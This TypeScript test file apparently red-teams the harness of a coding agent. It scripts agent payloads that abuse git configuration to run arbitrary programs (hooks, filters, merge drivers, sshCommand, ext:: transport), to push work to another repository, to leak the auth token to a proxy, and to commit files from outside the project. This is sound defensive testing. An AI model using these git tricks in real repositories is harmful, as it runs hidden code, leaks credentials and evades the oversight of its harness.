import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, vi } from "vitest";

import { handoffLine } from "../helpers/action-project.ts";
import { runGitIn } from "./git.ts";
import { attack, readCommitted, type AttackResult } from "./attack-fixture.ts";

const TRAPS = readFileSync(new URL("agents/git-traps.sh", import.meta.url), "utf8");
const DONE = handoffLine('"s"', '"g"');
const WORK = "refs/heads/codex-self-iter/main";

/** By the canaries that programs of the agent's leave where git runs them. */
const sprung =
  (...names: readonly string[]) =>
  (result: AttackResult): Record<string, boolean> =>
    Object.fromEntries(names.map((name) => [name, result.hasCanary(name)]));

/** Far enough from each other that two of them can change at once. */
const LINES = ["one", "two", "three", "four", "five", "six", "seven", ""];

/** Both are left in peace by git's own defences alone: no walls help. */
const GIT_ALONE = { isolation: ["none"] } as const;

describe("the repository's configuration", () => {
  attack("T9", "programs that git runs: hooks, a monitor, filters, drivers of a diff, a signer", {
    ...GIT_ALONE,
    agent: `(${TRAPS}) > /dev/null 2>&1\n${DONE}`,
    succeeded: sprung(
      ...["pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction", "post-index-change"].map(
        (hook) => `hook-${hook}`,
      ),
      "fsmonitor",
      "clean",
      "process",
      "textconv",
      "diff",
      "sign",
    ),
  });

  attack("T9", "a driver of a merge, when somebody has pushed meanwhile", {
    ...GIT_ALONE,
    agent: `if [ -e first.txt ]; then
  printf '#!/bin/sh\\ntouch @OUTSIDE@/merge\\n' > .git/driver; chmod +x .git/driver
  git config merge.x.driver "$PWD/.git/driver %O %A %B"; git config merge.default x
  mkdir -p .git/info; echo '* merge=x' > .git/info/attributes
  sed -i 's/^one$/ours/' lines.txt
  touch @OUTSIDE@/working; while [ ! -e @OUTSIDE@/pushed ]; do sleep 0.1; done
fi
echo work > first.txt\n${DONE}`,
    files: { "lines.txt": LINES.join("\n") },
    iterations: 2,
    async play({ hasCanary, outside, project, stand }) {
      const played = project.play();
      await Promise.race([
        played,
        vi.waitFor(() => hasCanary("working") || expect.fail("The agent is not at work."), { timeout: 250_000 }),
      ]);
      await stand.repository.commit({ ref: WORK, files: { "lines.txt": LINES.with(-2, "theirs").join("\n") } });
      writeFileSync(join(outside, "pushed"), "");
      await played;
    },
    async succeeded(result) {
      const landed = await readCommitted(result, "lines.txt");
      const isMerged = landed === LINES.with(0, "ours").with(-2, "theirs").join("\n").trim();
      if (result.target === "action" && !isMerged) throw new Error(`There was no merge to attack: ${landed ?? "nothing landed"}`);
      return { "a program that git runs": result.hasCanary("merge") };
    },
  });

  attack("T9", "hooks elsewhere, by a file that is included", {
    ...GIT_ALONE,
    agent: `mkdir -p .more
for hook in pre-commit pre-push; do printf '#!/bin/sh\\ntouch @OUTSIDE@/%s\\n' $hook > .more/$hook; chmod +x .more/$hook; done
printf '[core]\\n\\thooksPath = %s/.more\\n' "$PWD" > .more/config
git config include.path "$PWD/.more/config"\n${DONE}`,
    succeeded: sprung("pre-commit", "pre-push"),
  });

  attack("T9", "another folder, whose files are then committed", {
    ...GIT_ALONE,
    agent: `mkdir @OUTSIDE@/private && echo "private words" > @OUTSIDE@/private/diary.txt\ngit config core.worktree @OUTSIDE@/private\n${DONE}`,
    succeeded: async (result) => ({ "a file of another folder, on the branch": (await readCommitted(result, "diary.txt")) !== null }),
  });

  attack("T9", "an index that hides a change, and a list of files that are none", {
    ...GIT_ALONE,
    agent: `echo "# Plan\n\n- [x] write the notes" > plan.md; echo work > README.md; git update-index --assume-unchanged README.md
echo work > work.txt; echo '*.txt' >> .git/info/exclude\n${DONE}`,
    files: { "README.md": "# Demo\n" },
    succeeded: async (result) => ({
      "a changed file that is not on the branch": (await readCommitted(result, "README.md")) === "# Demo",
      "a new file that is not on the branch": (await readCommitted(result, "work.txt")) === null,
    }),
  });
});

describe("the address that the work is pushed to", () => {
  /** A repository of the agent's, which takes whatever comes. */
  const ELSEWHERE = "git init -q --bare @OUTSIDE@/elsewhere.git; git -C @OUTSIDE@/elsewhere.git config receive.shallowUpdate true";
  const hasArrived = (result: AttackResult): boolean => runGitIn(join(result.outside, "elsewhere.git"), "for-each-ref") !== "";

  attack("T9", "a push address beside the usual one", {
    ...GIT_ALONE,
    agent: `${ELSEWHERE}; echo work > work.txt; git config remote.origin.pushurl @OUTSIDE@/elsewhere.git\n${DONE}`,
    succeeded: async (result) => ({
      "the work, elsewhere": hasArrived(result),
      "the work, not on the branch": (await result.stand.repository.findRef(WORK)) === null,
    }),
  });

  attack("T9", "an address that becomes another", {
    ...GIT_ALONE,
    agent: `${ELSEWHERE}; git config url.@OUTSIDE@/elsewhere.git.pushInsteadOf "$(git remote get-url origin)"\n${DONE}`,
    succeeded: (result) => ({ "the work, elsewhere": hasArrived(result) }),
  });

  attack("T9", "programs in place of a connection", {
    ...GIT_ALONE,
    agent: `git config core.sshCommand 'sh -c "touch @OUTSIDE@/ssh; exit 1" x'; git config remote.origin.pushurl ssh://localhost/x\n${DONE}`,
    succeeded: sprung("ssh"),
  });

  attack("T9", "a transport that is a program", {
    ...GIT_ALONE,
    agent: `git config protocol.ext.allow always; git config remote.origin.pushurl 'ext::sh -c touch% @OUTSIDE@/transport'\n${DONE}`,
    succeeded: sprung("transport"),
  });

  /** Somebody's proxy, which keeps what it is sent. */
  const heard: string[] = [];
  const proxy = createServer((request, response) => {
    heard.push(request.headers.authorization ?? "");
    response.writeHead(502).end();
  });
  beforeAll(() => new Promise<void>((settle) => proxy.listen(0, "127.0.0.1", settle)));
  afterAll(() => void proxy.close());

  attack("T9", "a proxy in between", {
    ...GIT_ALONE,
    agent: `git config http.proxy "$(cat proxy)"\n${DONE}`,
    get files() {
      return { proxy: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}\n` };
    },
    prepare: () => void heard.splice(0),
    succeeded: () => ({ "the token, told to a proxy": heard.some((header) => /^basic /i.test(header)) }),
  });
});

describe("the repository itself", () => {
  const HOOK = `printf '#!/bin/sh\\ntouch @OUTSIDE@/hook\\n' > hooks/pre-commit; chmod +x hooks/pre-commit`;

  attack("T9", "a file in place of .git, which leads elsewhere", {
    ...GIT_ALONE,
    agent: `cp -R .git @OUTSIDE@/other && (cd @OUTSIDE@/other && mkdir -p hooks && ${HOOK}) && rm -rf .git && echo "gitdir: @OUTSIDE@/other" > .git\n${DONE}`,
    succeeded: sprung("hook"),
  });

  attack("T9", "a link in place of .git, which leads elsewhere", {
    ...GIT_ALONE,
    agent: `mv .git @OUTSIDE@/other && (cd @OUTSIDE@/other && mkdir -p hooks && ${HOOK}) && ln -s @OUTSIDE@/other .git\n${DONE}`,
    succeeded: sprung("hook"),
  });

  attack("T9", "a repository in the repository", {
    ...GIT_ALONE,
    agent: `echo work > work.txt; git init -q inner && (cd inner && echo x > x && git add x && git -c user.name=a -c user.email=a@b commit -qm x)\n${DONE}`,
    async succeeded(result) {
      const tree = await result.stand.repository.git("ls-tree", "-r", WORK).catch(() => "");
      return {
        "a commit that nobody has, in place of files": tree.includes("160000"),
      };
    },
  });
});
